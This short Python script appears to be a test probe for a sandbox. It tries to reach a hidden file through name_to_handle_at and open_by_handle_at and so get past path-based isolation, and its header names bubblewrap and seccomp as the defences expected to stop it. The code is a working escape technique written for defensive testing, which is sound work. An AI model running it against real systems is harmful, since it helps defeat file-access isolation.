# tries: to open a file by its handle, past every check of its path
# stopped-by: bubblewrap, identity, seccomp
# wins: raise
# needs: root
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


handle, mount, fd = Handle(128), ctypes.c_int(), -1
if libc.name_to_handle_at(-100, b"@HIDDEN@", ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
    for root in (b"/", b"/tmp"):
        at = libc.open(root, os.O_RDONLY)
        fd = libc.open_by_handle_at(at, ctypes.byref(handle), os.O_RDONLY)
        if fd >= 0:
            raise RuntimeError(f"PWNED: {os.read(fd, 100)!r}")
